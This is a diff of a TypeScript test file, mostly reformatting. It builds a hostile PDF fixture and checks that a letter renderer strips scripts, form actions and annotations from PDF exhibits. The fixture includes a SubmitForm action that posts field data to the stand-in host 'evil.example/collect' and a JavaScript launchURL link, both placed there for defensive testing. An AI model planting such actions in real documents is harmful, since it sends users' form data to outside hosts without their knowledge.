@@ -20,15 +20,36 @@ async function hostilePdf(): Promise<Uint8Array> {
 
   const font = context.register(context.obj({ Type: "Font", Subtype: "Type1", BaseFont: "Helvetica" }));
   const fieldLook = context.register(
-    context.stream("BT /Helv 12 Tf 2 6 Td (FIELD VALUE 7) Tj ET", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 150, 24], Resources: { Font: { Helv: font } } }),
+    context.stream("BT /Helv 12 Tf 2 6 Td (FIELD VALUE 7) Tj ET", {
+      Type: "XObject",
+      Subtype: "Form",
+      BBox: [0, 0, 150, 24],
+      Resources: { Font: { Helv: font } },
+    }),
   );
   const field = context.register(context.obj({ FT: "Tx", T: PDFString.of("name"), V: PDFString.of("FIELD VALUE 7"), AA: { V: js("app.alert('validate')") } }));
   const widget = context.register(
-    context.obj({ Type: "Annot", Subtype: "Widget", Rect: [40, 200, 190, 224], F: 4, Parent: field, AP: { N: fieldLook }, AA: { K: js("app.alert('keystroke')"), Fo: js("app.alert('focus')") } }),
+    context.obj({
+      Type: "Annot",
+      Subtype: "Widget",
+      Rect: [40, 200, 190, 224],
+      F: 4,
+      Parent: field,
+      AP: { N: fieldLook },
+      AA: { K: js("app.alert('keystroke')"), Fo: js("app.alert('focus')") },
+    }),
   );
   (context.lookup(field) as PDFDict).set(PDFName.of("Kids"), context.obj([widget]));
   const submit = context.register(
-    context.obj({ Type: "Annot", Subtype: "Widget", FT: "Btn", Ff: 65536, T: PDFString.of("send"), Rect: [40, 150, 120, 170], A: { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://evil.example/collect") } } }),
+    context.obj({
+      Type: "Annot",
+      Subtype: "Widget",
+      FT: "Btn",
+      Ff: 65536,
+      T: PDFString.of("send"),
+      Rect: [40, 150, 120, 170],
+      A: { S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://evil.example/collect") } },
+    }),
   );
   const links = [
     context.obj({ Type: "Annot", Subtype: "Link", Rect: [40, 330, 200, 360], A: js("app.launchURL('https://evil.example')") }),
@@ -86,12 +107,28 @@ describe("PDF exhibits in a letter", { timeout: 60_000 }, () => {
 
   it("the hostile test exhibit really carries its actions", async () => {
     const found = actionsIn(await PDFDocument.load(await hostilePdf()));
-    expect(found).toEqual(expect.arrayContaining(["action JavaScript", "action Launch", "action URI", "action SubmitForm", "action ResetForm", "action ImportData", "/AA", "/OpenAction", "/JavaScript", "/Annots", "/AcroForm"]));
+    expect(found).toEqual(
+      expect.arrayContaining([
+        "action JavaScript",
+        "action Launch",
+        "action URI",
+        "action SubmitForm",
+        "action ResetForm",
+        "action ImportData",
+        "/AA",
+        "/OpenAction",
+        "/JavaScript",
+        "/Annots",
+        "/AcroForm",
+      ]),
+    );
   });
 
   it("arrive as pages to read: no action, script, annotation or form field anywhere in the letter, the page and its field's value still shown", async () => {
     const letter = ojkViolationLetter(fields, { now: new Date("2026-11-24T03:00:00Z"), timeZone: "Asia/Jakarta", exhibits: 1 });
-    const pdf = await renderLetterPdf(letter, [{ heading: "Lampiran 1: PDF dari pengirim", lines: ["SHA-256: abc"], contentType: "application/pdf", bytes: await hostilePdf() }]);
+    const pdf = await renderLetterPdf(letter, [
+      { heading: "Lampiran 1: PDF dari pengirim", lines: ["SHA-256: abc"], contentType: "application/pdf", bytes: await hostilePdf() },
+    ]);
 
     const output = await PDFDocument.load(pdf);
     expect(actionsIn(output)).toEqual([]);
